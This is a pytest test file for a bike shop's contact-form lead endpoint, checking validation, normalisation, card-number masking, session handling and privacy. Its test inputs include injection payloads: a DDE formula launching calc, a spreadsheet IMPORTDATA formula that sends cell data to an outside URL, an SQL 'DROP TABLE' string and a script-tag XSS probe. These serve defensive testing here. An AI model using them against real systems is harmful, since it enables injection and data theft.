"""The contact form: a lead from one post, normalised, with consent, and never told back."""

import asyncio
from typing import Any, Final

import pytest
from sqlalchemy import update

from shared.db.models import sessions
from shared.db.unit_of_work import Database
from shared.ids import new_id
from tests.faults.record import record_of
from tests.processes import Desk
from tests.visitor import Json, Visitor

CAPTURED: Final = {"lead": {"step": "captured"}}
PHONE: Final = "+12015550123"


def address() -> str:
    """Return an email address that no other test has given."""
    return f"anna.{new_id()}@example.com"


async def post_form(visitor: Visitor, **fields: Any) -> Json:
    """Send the form, with consent, and return what is told."""
    reply = await visitor.call("POST", "/v1/leads", json={"consent": True} | fields)
    assert reply.status == 202, reply
    return reply.json  # type: ignore[no-any-return]


async def lead_with(desk: Desk, text: str) -> Json | None:
    """Return the only lead with these characters in it, as an operator sees it; None when there is none."""
    async with desk.operator() as operator:
        found = (await operator.call("GET", "/v1/admin/leads", params={"q": text})).json["leads"]
        if not found:
            return None
        [entry] = found
        return (await operator.call("GET", f"/v1/admin/leads/{entry['id']}")).json  # type: ignore[no-any-return]


async def test_a_form_is_a_lead_and_its_visitor_is_told_nothing_of_it(desk: Desk) -> None:
    email = address()
    async with desk.visitor() as visitor:
        await visitor.open()
        form = {"name": "  Anna \n Smith ", "email": f" {email.replace('example', 'EXAMPLE')} "}
        told = await post_form(visitor, **form, phone="(201) 555-0123", message="Do you open on Sundays?\n")
        assert told == CAPTURED
        assert (await visitor.session())["lead"] == {"step": "captured"}
    lead = await lead_with(desk, email)
    assert lead
    assert (lead["name"], lead["email"], lead["phone"]) == ("Anna Smith", email, PHONE)
    assert (lead["status"], lead["message"], lead["session_id"]) == (
        "captured",
        "Do you open on Sundays?",
        visitor.session_id,
    )
    assert lead["consent_text"] == "I agree that Larkfield Bikes keeps these details to get back to me."
    assert lead["consent_at"]
    assert {value["source"] for value in lead["values"]} == {"form"}


async def test_a_form_that_is_sent_again_changes_nothing(desk: Desk) -> None:
    email = address()
    form = {"name": "Ann", "email": email, "message": "Please call"}
    async with desk.visitor() as visitor:
        await visitor.open()
        await post_form(visitor, **form)
        before = await lead_with(desk, email)
        assert await post_form(visitor, **form) == CAPTURED
    assert before
    assert await lead_with(desk, email) == before


async def test_one_person_in_many_tabs_at_once_is_one_lead(desk: Desk) -> None:
    email = address()

    async def one() -> Json:
        async with desk.visitor() as visitor:
            await visitor.open()
            return await post_form(visitor, name="Ann", email=email)

    assert await asyncio.gather(*(one() for _ in range(8))) == [CAPTURED] * 8
    lead = await lead_with(desk, email)
    assert lead
    assert len({value["session_id"] for value in lead["values"]}) == 8


async def test_an_empty_field_is_none_and_either_address_or_number_is_enough(desk: Desk) -> None:
    email = address()
    async with desk.visitor() as visitor:
        await visitor.open()
        await post_form(visitor, name="", email=email, phone=" ", message=None)
    lead = await lead_with(desk, email)
    assert lead
    assert (lead["name"], lead["phone"], lead["message"]) == (None, None, None)


@pytest.mark.parametrize(
    ("form", "code"),
    [
        ({"name": "Ann", "consent": True}, "contact_missing"),
        ({"email": "", "phone": "  ", "consent": True}, "contact_missing"),
        ({"email": "ann", "consent": True}, "email_invalid"),
        ({"email": "ann@", "consent": True}, "email_invalid"),
        ({"email": "ann@example..com", "consent": True}, "email_invalid"),
        ({"email": "a" * 10_000 + "@example.com", "consent": True}, "email_invalid"),
        ({"email": "4111111111111111@example.com", "consent": True}, "email_invalid"),
        ({"email": "=cmd|'/c calc'!A1", "consent": True}, "email_invalid"),
        ({"phone": "12", "consent": True}, "phone_invalid"),
        ({"phone": "call me", "consent": True}, "phone_invalid"),
        ({"phone": "9" * 10_000, "consent": True}, "phone_invalid"),
        ({"phone": "4222222222222", "consent": True}, "phone_invalid"),
        ({"email": "ann@example.com", "phone": "12", "consent": True}, "phone_invalid"),
        ({"email": "ann@example.com", "consent": False}, "consent_required"),
        ({"email": "ann@example.com"}, "consent_required"),
        ({"email": "ann@example.com", "consent": "yes"}, "invalid_request"),
        ({"email": "ann@example.com", "consent": 1}, "invalid_request"),
        ({"email": "ann@example.com", "consent": None}, "invalid_request"),
        ({"email": ["ann@example.com"], "consent": True}, "invalid_request"),
        ({"email": "ann@example.com", "name": "x" * 10_000, "consent": True}, "invalid_request"),
        ({"email": "ann@example.com", "name": "a\0b", "consent": True}, "invalid_request"),
        ({"email": "ann@example.com", "name": "a\ud800b", "consent": True}, "invalid_request"),
        ({"email": "ann\udfff@example.com", "consent": True}, "invalid_request"),
        ({"email": "ann@example.com", "message": "x" * 4001, "consent": True}, "message_too_long"),
        ({"email": "ann@example.com", "message": "x" * 9000, "consent": True}, "invalid_request"),
        ({"email": "ann@example.com", "lead_id": 1, "consent": True}, "invalid_request"),
        ({}, "contact_missing"),
    ],
)
async def test_a_form_that_can_t_be_taken_says_why_and_leaves_nothing(desk: Desk, form: Json, code: str) -> None:
    async with desk.visitor() as visitor:
        await visitor.open()
        refused = await visitor.call("POST", "/v1/leads", json=form)
        assert (refused.status, refused.json["code"]) == (422, code)
        assert (await visitor.session())["lead"] == {"step": "idle"}
    assert await lead_with(desk, "ann@example.com") is None


@pytest.mark.parametrize(
    "name",
    [
        "🚲 Ann 👩‍👩‍👧",
        "محمد \u202eعلي",
        '=IMPORTDATA("https://example.com/?"&A1)',
        "+1+1",
        "O'Brien; DROP TABLE leads --",
        "<script>alert(1)</script>",
        "x" * 200,
        "🚲" * 200,
    ],
)
async def test_a_name_is_kept_as_it_was_typed(desk: Desk, name: str) -> None:
    email = address()
    async with desk.visitor() as visitor:
        await visitor.open()
        await post_form(visitor, name=name, email=email)
    lead = await lead_with(desk, email)
    assert lead
    assert lead["name"] == name


async def test_a_card_s_number_is_stored_nowhere(desk: Desk) -> None:
    email = address()
    async with desk.visitor() as visitor:
        await visitor.open()
        await post_form(visitor, name="Ann 4111 1111 1111 1111", email=email, message="Mine is 378282246310005.")
        turn = await visitor.ask("I paid with 5555-5555-5555-4444, and you?")
        await visitor.rate(turn["turn_id"], "up", "Charge 4111111111111111")
        [turn] = (await visitor.session())["turns"]
        async with desk.operator() as operator:
            transcript = (await operator.call("GET", f"/v1/admin/sessions/{visitor.session_id}")).json
    lead = await lead_with(desk, email)
    assert lead
    assert (lead["name"], lead["message"]) == ("Ann •••• •••• •••• 1111", "Mine is •••••••••••0005.")
    assert turn["message"] == "I paid with ••••-••••-••••-4444, and you?"
    assert transcript["turns"][0]["rating_comment"] == "Charge ••••••••••••1111"


async def test_a_message_with_a_card_s_number_that_is_posted_again_is_the_same_turn(desk: Desk) -> None:
    async with desk.visitor() as visitor:
        await visitor.open()
        first = await visitor.post("Mine is 4111 1111 1111 1111.", "one")
        again = await visitor.post("Mine is 4111 1111 1111 1111.", "one")
        masked = await visitor.post("Mine is •••• •••• •••• 1111.", "one")
    assert {again.turn_id, masked.turn_id} == {first.turn_id}
    assert not again.created


async def test_a_form_prolongs_its_session_and_one_that_is_over_takes_none(desk: Desk) -> None:
    async with desk.visitor() as visitor, record_of(desk.stack) as record:
        opened = await visitor.open()
        email = address()
        await post_form(visitor, email=email)
        assert (await visitor.session())["expires_at"] > opened["expires_at"]
        await _expire(record.database, visitor.session_id)
        refused = await visitor.call("POST", "/v1/leads", json={"email": address(), "consent": True})
        assert (refused.status, refused.json["code"]) == (410, "session_expired")
    async with desk.visitor(token="fds_forged") as nobody:
        refused = await nobody.call("POST", "/v1/leads", json={"email": address(), "consent": True})
        assert (refused.status, refused.json["code"]) == (401, "invalid_token")


async def test_whoever_gives_somebody_else_s_address_learns_nothing(desk: Desk) -> None:
    email = address()
    async with desk.visitor() as owner, desk.visitor() as stranger:
        await owner.open()
        await post_form(owner, name="Anna Owner", email=email, phone="+12015550199")
        await stranger.open()
        assert await post_form(stranger, email=email) == CAPTURED
        told = (await stranger.call("GET", "/v1/session")).text
    assert "Anna" not in told
    assert "5550199" not in told


async def test_erasing_a_session_takes_back_what_it_gave_and_nothing_else(desk: Desk) -> None:
    email = address()
    async with desk.visitor() as first, desk.visitor() as second:
        await first.open()
        await second.open()
        await post_form(first, name="Anna", email=email)
        await post_form(second, email=email, phone="+12015550155")
        await second.call("DELETE", "/v1/session")
        lead = await lead_with(desk, email)
        assert lead
        assert (lead["name"], lead["phone"]) == ("Anna", None)
        await first.call("DELETE", "/v1/session")
    assert await lead_with(desk, email) is None


async def _expire(database: Database, session_id: str) -> None:
    async with database.engine.begin() as connection:
        ended = update(sessions).where(sessions.c.id == session_id).values(status="expired")
        await connection.execute(ended)
